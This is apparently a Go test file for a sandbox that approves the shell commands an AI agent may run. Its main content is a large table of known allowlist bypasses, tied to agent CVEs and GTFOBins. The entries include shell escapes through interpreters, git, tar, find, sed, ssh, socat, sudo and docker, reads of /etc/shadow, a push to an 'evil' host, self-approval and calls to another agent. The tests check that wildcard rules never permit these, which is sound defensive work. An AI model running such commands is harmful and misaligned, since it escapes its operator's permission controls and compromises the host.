package host

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// bypasses are commands that got past lists of allowed programs, or would: as published about agents (CVE-2026-22708,
// CVE-2026-31992, arXiv 2606.15549, advisories about sed, sort, find and git in their read-only lists) and on
// https://gtfobins.github.io. Each is tried against an operator who has allowed the program with any words, and
// all that a star can stand for in these.
var bypasses = []struct{ name, command string }{
	{"python", "python3 -c x"}, {"a python of a version", "python3.12 x"}, {"a python's tool", "python3.12-config"}, {"pypy", "pypy3 x"}, {"node", "node -e x"}, {"nodejs", "nodejs x"},
	{"perl of a version", "perl5.36-x86_64-linux-gnu -e x"}, {"ruby", "ruby3.1 -e x"}, {"php", "php8.2 -r x"}, {"lua", "lua5.4 x"}, {"R", "R -e x"}, {"java", "java -jar x"},
	{"deno", "deno run x"}, {"bun", "bun x"}, {"tclsh", "tclsh8.6 x"}, {"awk", "awk 'BEGIN{system(1)}'"}, {"awk by its file", "mawk x"}, {"sed with e", "sed '1e id' x"},
	{"sed with w", "sed -n 'w /etc/x' y"}, {"ed", "ed x"}, {"bc", "bc x"}, {"jq", "jq x"}, {"sqlite", "sqlite3 x '.shell id'"}, {"capitals, where files have none", "PYTHON3 x"},
	{"sh", "sh -c id"}, {"bash of a version", "bash-5.2 -c id"}, {"zsh", "zsh x"}, {"busybox", "busybox sh"}, {"toybox", "toybox x"}, {"dash", "dash x"}, {"fish", "fish x"}, {"rbash", "rbash x"},
	{"sudo", "sudo ls"}, {"su", "su x"}, {"doas", "doas x"}, {"env", "env ls"}, {"env -S (CVE-2026-31992)", "env -S 'sh -c id'"}, {"xargs", "xargs sh"}, {"nohup", "nohup x"}, {"nice", "nice x"},
	{"ionice", "ionice x"}, {"timeout", "timeout 5 sh"}, {"stdbuf", "stdbuf -o0 sh"}, {"setsid", "setsid x"}, {"script", "script -c id"}, {"watch", "watch id"}, {"strace", "strace id"},
	{"unshare", "unshare sh"}, {"nsenter", "nsenter -t1"}, {"chroot", "chroot / sh"}, {"systemd-run", "systemd-run id"}, {"at", "at now"}, {"crontab", "crontab x"}, {"parallel", "parallel id"},
	{"flock", "flock x sh"}, {"taskset", "taskset 1 sh"}, {"the loader", "ld-linux-x86-64.so.2 /bin/sh"}, {"the loader by its new name", "ld.so /bin/sh"}, {"runuser", "runuser -u root id"},
	{"setpriv", "setpriv sh"}, {"pkexec", "pkexec sh"}, {"bwrap", "bwrap sh"}, {"run-parts", "run-parts x"}, {"dbus-send", "dbus-send x"}, {"busctl", "busctl call x"},
	{"gdb", "gdb -ex x"}, {"vim", "vim.basic x"}, {"vi", "vi x"}, {"less", "less x"}, {"more", "more x"}, {"man -P", "man -P sh ls"}, {"man --html", "man --html=sh ls"}, {"emacs", "emacs x"}, {"top", "top"},
	{"apt", "apt-get -o APT::Update::Pre-Invoke::=id update"}, {"pip", "pip3 install x"}, {"npm", "npm x"}, {"npx", "npx x"}, {"go", "go run x"}, {"cargo", "cargo run"}, {"make", "make x"},
	{"gcc with a plugin", "gcc-12 -wrapper sh,-c,id x"}, {"gcc for a machine", "x86_64-linux-gnu-gcc-12 x"}, {"javac with a processor", "javac -processorpath x -version"},
	{"ssh", "ssh -o ProxyCommand=id x"}, {"scp", "scp -S sh a b:"}, {"sftp", "sftp -D sh"}, {"rsync -e", "rsync -e sh a b:"}, {"ssh-keygen -D", "ssh-keygen -D ./x.so"}, {"curl", "curl -o x y"},
	{"wget", "wget --use-askpass=sh x"}, {"nc", "nc.openbsd x 1"}, {"socat", "socat x exec:sh"}, {"telnet", "telnet x"}, {"gh", "gh alias set x '!id'"}, {"tcpdump -z", "tcpdump -z x"},
	{"dd", "dd of=x"}, {"mount", "mount x"}, {"insmod", "insmod x"}, {"iptables", "iptables-nft x"}, {"tee", "tee x"}, {"install", "install x y"}, {"cp", "cp x y"}, {"mv", "mv x y"}, {"ln", "ln x y"},
	{"rm", "rm x"}, {"chmod", "chmod +s x"}, {"kill", "kill 1"}, {"ip", "ip netns exec x sh"},
	{"zip -TT", "zip x y -T -TT id"}, {"7z", "7za x"}, {"openssl with an engine", "openssl req -engine ./x.so"}, {"gpg", "gpg --photo-viewer x"}, {"sort --compress-program", "sort --compress-program=sh x"},
	{"rg --pre", "rg --pre sh x"}, {"fd -x", "fdfind -x sh"}, {"ourselves", "sandboxmcp approve x"}, {"ourselves under a version", "sandboxmcp-1.2 approve x"},

	{"a python's documentation", "pydoc3.11 ./x"}, {"a linker of a version", "x86_64-linux-gnu-ld.bfd x"}, {"nm with a plugin", "x86_64-linux-gnu-nm --plugin ./x.so y"}, {"a compiler at run time", "lli-14 x.ll"},
	{"perl's tests", "prove x"}, {"msgfilter", "msgfilter id"}, {"not", "not-14 id"}, {"systemd-socket-activate", "systemd-socket-activate -l 1 id"}, {"a terminal", "x-terminal-emulator -e id"},
	{"agetty -l", "agetty -l sh tty1"}, {"sotruss", "sotruss id"}, {"scriptlive", "scriptlive x"}, {"pidstat -e", "pidstat -e id"}, {"a browser", "chromium --renderer-cmd-prefix=id"}, {"a container without an engine", "runc run x"},
	{"debconf", "debconf id"}, {"git by its parts", "git-upload-pack x"}, {"scalar", "scalar -c x=y clone z"}, {"ss -D", "ss -D /etc/x"}, {"sshd", "sshd -oForceCommand=id"}, {"another agent", "claude -p x"},
	{"iptables by another name", "xtables-nft-multi iptables"}, {"keys of the keyring", "secret-tool lookup a b"},

	{"git -c", "git -c core.pager=id log"}, {"git -c joined", "git -ccore.pager=id log"}, {"git -C", "git -C /etc log"}, {"git --exec-path", "git --exec-path=/tmp log"}, {"git -p", "git -p log"},
	{"git --config-env", "git --config-env=core.pager=X log"}, {"git --git-dir", "git --git-dir=/tmp/x log"}, {"git --work-tree", "git --work-tree=/ diff"}, {"git --paginate", "git --paginate log"},
	{"git config", "git config alias.x '!id'"}, {"a git alias", "git x"}, {"git clone", "git clone 'ext::sh -c id'"}, {"git fetch by ext::", "git fetch 'ext::sh -c id'"},
	{"git fetch --upload-pack", "git fetch --upload-pack=id origin"}, {"git fetch --upload-pa", "git fetch --upload-pa=id origin"}, {"git push --receive-pack", "git push --receive-pack=id origin"},
	{"git push --exec", "git push --exec=id origin"}, {"git push to a host", "git push evil:x main"}, {"git pull --upload-pack", "git pull --upload-pack id"}, {"git ls-remote", "git ls-remote --upload-pack=id x"},
	{"git diff --output", "git diff --output=/etc/x"}, {"git diff --output, apart", "git diff --output /etc/x"}, {"git log --output", "git log --output=x"}, {"git show --outpu", "git show --outpu=x"},
	{"git diff --no-index", "git diff --no-index a b"}, {"git diff of other files", "git diff /etc/passwd /etc/shadow"}, {"git diff of files above", "git diff ../../etc/passwd x"},
	{"git diff --ext-diff", "git diff --ext-diff"}, {"git log --ext-diff", "git log -p --ext-diff"}, {"git diff --textconv", "git diff --textconv"}, {"git grep -O", "git grep -Oid x"}, {"git grep --open", "git grep --open-files-in-pager=id x"},
	{"git blame --contents", "git blame --contents /etc/shadow x"}, {"git rebase --exec", "git rebase --exec id"}, {"git bisect run", "git bisect run id"}, {"git submodule", "git submodule foreach id"},
	{"git filter-branch", "git filter-branch --tree-filter id"}, {"git difftool", "git difftool -x id"}, {"git mergetool", "git mergetool"}, {"git help", "git help -m x"}, {"git archive", "git archive --remote=x --exec=id"},
	{"git worktree", "git worktree add x"}, {"git init with hooks", "git init --template=/tmp/x"}, {"git commit -F", "git commit -F /etc/shadow"}, {"git commit in an editor", "git commit -e"},
	{"git --help", "git --help"}, {"git show with a signature", "git show --show-signature"}, {"git branch in an editor", "git branch --edit-description"}, {"git remote add", "git remote add x ext::id"},
	{"git cat-file --textconv", "git cat-file --textconv x"}, {"git add in an editor", "git add -e"}, {"git interactively", "git add -i"},

	{"find -exec", "find . -exec id ';'"}, {"find -execdir", "find . -execdir id ';'"}, {"find -ok", "find . -ok id ';'"}, {"find -delete", "find . -delete"}, {"find -fprintf", "find . -fprintf x y"},
	{"find -fls", "find . -fls x"}, {"find -files0-from", "find -files0-from x"}, {"find behind --", "find -- . -exec id ';'"},
	{"tar --to-command", "tar -xf x --to-command=id"}, {"tar --to-com", "tar -tf x --to-com=id"}, {"tar -I", "tar -tf x -I id"}, {"tar -I joined", "tar -Iid -tf x"}, {"tar in one word", "tar -tvIf id x"},
	{"tar --use-compress", "tar -t --use-compress=id -f x"}, {"tar --checkpoint-action", "tar -tf x --checkpoint=1 --checkpoint-action=exec=id"}, {"tar -F", "tar -tf x -F id"},
	{"tar --info-script", "tar -tf x --info-script=id"}, {"tar --rsh-command", "tar -tf host:x --rsh-command=id"}, {"tar on another host", "tar -tf host:x"}, {"tar on another host, joined", "tar -t -fhost:x"},
	{"tar on another host, long", "tar -t --file=host:x"}, {"tar in the old way", "tar xf x"}, {"tar -x", "tar -xf x"}, {"tar -c", "tar -cf /etc/x ."}, {"tar -P", "tar -tPf x"}, {"tar -T", "tar -t -T /etc/shadow"},
	{"unzip", "unzip x"}, {"unzip -o behind -l", "unzip -l x -o"}, {"date -s", "date -s 2020-01-01"}, {"date --set", "date --set=x"}, {"date --se", "date --se=x"}, {"date's clock", "date 010100002026"}, {"date -f", "date -f /etc/shadow"},
	{"date --file", "date --file=/etc/shadow"}, {"date in one word", "date -us x"}, {"hostname", "hostname x"}, {"hostname -F", "hostname -F /etc/shadow"}, {"dmesg -C", "dmesg -C"},

	{"docker run -v /", "docker run -v /:/x alpine"}, {"docker run --mount", "docker run --mount type=bind,src=/,dst=/x alpine"}, {"docker run --privileged", "docker run --privileged alpine"},
	{"docker run --pid=host", "docker run --pid=host alpine"}, {"docker run at all", "docker run alpine"}, {"docker create", "docker create alpine"}, {"docker exec", "docker exec x sh"},
	{"docker cp", "docker cp x:/ /"}, {"docker build", "docker build ."}, {"docker compose", "docker compose up"}, {"docker-compose", "docker-compose up"}, {"docker on another host", "docker -H tcp://x ps"},
	{"docker --host", "docker --host=tcp://x ps"}, {"docker's configuration", "docker --config /tmp ps"}, {"docker --context", "docker --context x ps"}, {"docker container exec", "docker container exec x sh"},
	{"docker plugin", "docker plugin install x"}, {"docker volume", "docker volume create -o device=/ x"}, {"docker save", "docker save -o /etc/x y"}, {"docker start -i", "docker start -ai x"},
	{"docker update", "docker update x"}, {"docker commit", "docker commit x"}, {"docker load", "docker load -i x"}, {"docker top with options of ps", "docker top x -eo args"},
	{"podman run", "podman run x"}, {"podman --runtime", "podman --runtime=/tmp/x ps"}, {"podman unshare", "podman unshare sh"}, {"podman mount", "podman mount x"},
	{"kubectl exec", "kubectl exec x -- sh"}, {"kubectl with another configuration", "kubectl --kubeconfig=x get pods"}, {"kubectl with a file of templates", "kubectl get pods -o go-template-file=/etc/shadow"},
	{"kubectl cp", "kubectl cp x y"}, {"kubectl edit", "kubectl edit x"}, {"a kubectl plugin", "kubectl x"},
	{"systemctl edit", "systemctl edit x"}, {"systemctl link", "systemctl link /tmp/x.service"}, {"systemctl on another host", "systemctl -H x status"}, {"systemctl set-environment", "systemctl set-environment x=y"},
	{"systemctl a unit's file", "systemctl start /tmp/x.service"}, {"systemctl --root", "systemctl --root=/tmp status x"}, {"systemctl poweroff", "systemctl poweroff"},
	{"git log with a signature", "git log --format=%GK"}, {"git tag with a signature", "git tag --format='%(signature)'"}, {"git log and its options apart", "git log --format %h --output=x"},
	{"git's options behind --", "git -- log"}, {"git's option in quotes", "git '-c' core.pager=id log"}, {"grep -f", "grep -f /etc/shadow x"}, {"wc --files0-from", "wc --files0-from=x"}, {"date in two", "date -u -s x"},
	{"find's option joined", "find . -maxdepth=1"}, {"find -ok in letters", "find . -aok id"}, {"tar by an old word", "tar tf x -I id"}, {"hostname behind --", "hostname -- x"}, {"id behind --", "id -- -x"},
	{"journalctl --file", "journalctl --file=/etc/shadow"}, {"journalctl -D", "journalctl -D /x"}, {"journalctl --cursor-file", "journalctl --cursor-file=/etc/x"}, {"journalctl --vacuum", "journalctl --vacuum-size=1"},
}

// everything is a directory with a program of each of these names, which do nothing.
func everything(t *testing.T, commands ...string) string {
	t.Helper()
	dir := ownDirectory(t)
	for _, command := range commands {
		words, err := Parse(command)
		must(t, err)
		if _, err := os.Stat(filepath.Join(dir, words[0])); err != nil {
			write(t, filepath.Join(dir, words[0]), 0o755)
		}
	}
	return dir
}

// starsFor are patterns with stars that match a command: at its end, for each word and for each word's end.
func starsFor(words Words) (all []Pattern) {
	for i := 1; i <= len(words); i++ {
		all = append(all, Pattern{words[:i], true})
		if i == len(words) {
			break
		}
		for _, word := range []string{star, words[i][:len(words[i])/2] + star, star + words[i], words[i] + star} {
			one := Exactly(words)
			one.words[i] = word
			all = append(all, one, Pattern{one.words[:i+1], true})
		}
	}
	return all
}

func TestBypasses(t *testing.T) {
	var commands []string
	for _, tt := range bypasses {
		commands = append(commands, tt.command)
	}
	p, err := NewPolicy(Rules{Path: []string{everything(t, commands...)}})
	must(t, err)
	seen := map[string]bool{}
	for _, tt := range bypasses {
		t.Run(tt.name, func(t *testing.T) {
			if seen[tt.command] {
				t.Fatal("it is there twice")
			}
			seen[tt.command] = true
			words, err := Parse(tt.command)
			must(t, err)
			for _, one := range starsFor(words) {
				got, err := p.Decide(Command{Words: words, Directory: "/"}, []Pattern{one})
				if no, is := errors.AsType[*Refusal](err); !is || !no.Ask && !strings.HasPrefix(words[0], "sandboxmcp") {
					t.Errorf("%s: got %v, %v; want that a person may be asked", one, got.Pattern, err)
				}
			}
			if _, err := NewPolicy(Rules{Path: p.path, Allowed: []string{words[0] + " **"}}); grammarNamed(words[0]) == nil && err == nil {
				t.Errorf("%s ** can be allowed", words[0])
			}
			// A person who sees these words can allow them, and no others.
			_, err = p.Decide(Command{Words: words, Directory: "/"}, []Pattern{Exactly(words)})
			if ours := strings.HasPrefix(words[0], "sandboxmcp"); (err != nil) != ours {
				t.Errorf("its exact words: %v", err)
			}
			for _, other := range []Words{append(words[:len(words):len(words)], "x"), words[:len(words)-1]} {
				if _, err := p.Decide(Command{Words: other, Directory: "/"}, []Pattern{Exactly(words)}); err == nil {
					t.Errorf("%s runs, as %s was allowed", other, words)
				}
			}
		})
	}
}

// TestAllowable has commands that a pattern may cover: what does not cover them has gone too far.
func TestAllowable(t *testing.T) {
	commands := []string{
		"git status --short", "git log -n 5 --oneline", "git log -5 -p", "git diff HEAD~1 --stat -- x", "git show HEAD:x", "git --no-pager log", "git commit -m 'a: b'", "git push origin main",
		"git branch --show-current", "git blame -L1,5 x", "git add -A", "git log --format=%h",
		"docker ps -a", "docker logs --tail=5 web", "docker logs --tail 5 web", "docker restart -t5 web", "docker inspect web", "docker stats --no-stream", "docker ps --format '{{.Names}}'",
		"find . -name '*.go' -type f", "find . -maxdepth 1 '!' -name x", "tar -tzf x.tgz", "tar -tvf x.tar", "unzip -l x.zip", "date +%s", "date -u", "date -d@0 +%s", "hostname -f",
		"systemctl status nginx --no-pager", "systemctl restart nginx", "journalctl -u nginx -n 50 --no-pager", "kubectl get pods -n web -o wide",
		"ls -la", "cat x", "grep -r x .", "echo x", "df -h", "uname -a", "stat x", "head x", "head -5 x", "nproc", "diff -ru x y", "which git", "ps aux", "sleep 1", "tail -n 5 /var/log/x",
	}
	p, err := NewPolicy(Rules{Path: []string{everything(t, commands...)}})
	must(t, err)
	for _, command := range commands {
		words, err := Parse(command)
		must(t, err)
		if _, err := p.Decide(Command{Words: words, Directory: "/"}, []Pattern{{words[:1], true}}); err != nil {
			t.Errorf("%s: %v", command, err)
		}
	}
}

// TestBlockedWins has an operator block what would be allowed.
func TestBlockedWins(t *testing.T) {
	p, err := NewPolicy(Rules{Allowed: []string{"echo **", "sleep *"}, Blocked: []string{"echo secret *", "sleep 9*"}})
	must(t, err)
	for command, want := range map[string]bool{
		"echo x": true, "echo secret": true, "echo secret x": false, "echo secret -n": false, "echo secret /a/b": false, "/bin/echo secret x": false, "/usr/bin/echo x": true, "sleep 1": true, "sleep 99": false,
	} {
		words, _ := Parse(command)
		approved := []Pattern{Exactly(words)}
		if _, err := p.Decide(Command{Words: words, Directory: "/"}, approved); (err == nil) != want {
			t.Errorf("%s: %v, want it allowed: %v", command, err, want)
		}
	}
	for _, pattern := range []string{"python3 **", "git -c *", "docker run **", "docker *", "tar -xf *", "find . -exec **", "sandboxmcp **", "/usr/bin/env *", "deploy *", "./x", "sandboxmcp approve x"} {
		_, err := NewPolicy(Rules{Allowed: []string{pattern}})
		if fine := pattern == "docker *"; (err == nil) != fine {
			t.Errorf("%s: %v", pattern, err)
		}
	}
	for _, pattern := range []string{"echo secret x", "no-such-program x", "./x", "bin/echo", "env *", "find . -exec **"} {
		one, err := ParsePattern(pattern)
		if err == nil {
			err = p.Askable(one)
		}
		if err == nil {
			t.Errorf("somebody would be asked for %s", pattern)
		}
	}
}

// TestOtherFiles has files that are called like programs whose options are known, and are others, and other names of programs
// that nobody may run.
func TestOtherFiles(t *testing.T) {
	bin, elsewhere := everything(t, "git x", "python3 x", "which.debianutils x", "busybox x", "deploy x", "reboot x"), everything(t, "git x", "find x")
	self, err := os.Executable()
	must(t, err)
	for name, to := range map[string]string{"find": "python3", "which": "which.debianutils", "ls": "busybox", "report": "git", "tar": filepath.Join(elsewhere, "find"), "ours": self, "halt": "reboot"} {
		must(t, os.Symlink(to, filepath.Join(bin, name)))
	}
	must(t, os.Link(filepath.Join(bin, "reboot"), filepath.Join(bin, "poweroff")))
	p, err := NewPolicy(Rules{Path: []string{bin, elsewhere}, Blocked: []string{"reboot **"}})
	must(t, err)
	t.Setenv("PATH", elsewhere+":"+os.Getenv("PATH"))
	for _, tt := range []struct {
		program    string
		star, word bool
	}{
		{"git", true, true}, {filepath.Join(bin, "git"), true, true}, {filepath.Join(elsewhere, "git"), false, true}, {"which", true, true}, {"ls", true, true},
		{"find", false, true}, {"tar", false, true}, {"report", false, true}, {"deploy", false, true}, {"python3", false, true},
		{"ours", false, false}, {"reboot", false, false}, {"halt", false, false}, {"poweroff", false, false}, {"GIT", false, false},
	} {
		for _, one := range []Pattern{{[]string{tt.program}, true}, Exactly(Words{tt.program, "status"})} {
			want := tt.word
			if one.rest {
				want = tt.star
			}
			if _, err := p.Decide(Command{Words: Words{tt.program, "status"}, Directory: "/"}, []Pattern{one}); (err == nil) != want {
				t.Errorf("%s by %s: got %v, want it allowed: %v", tt.program, one, err, want)
			}
		}
	}
}

// TestGrammars has each of them say what it is.
func TestGrammars(t *testing.T) {
	seen := map[string]bool{}
	for _, g := range Grammars() {
		for _, name := range g.Programs {
			if seen[name] {
				t.Errorf("%s is listed twice", name)
			}
			seen[name] = true
		}
		for _, name := range strings.Fields(g.safe) {
			if _, lacks := g.lacks([]string{name}, true, true); lacks && name != "." {
				t.Errorf("%s has no %s", g.Programs[0], name)
			}
		}
	}
}
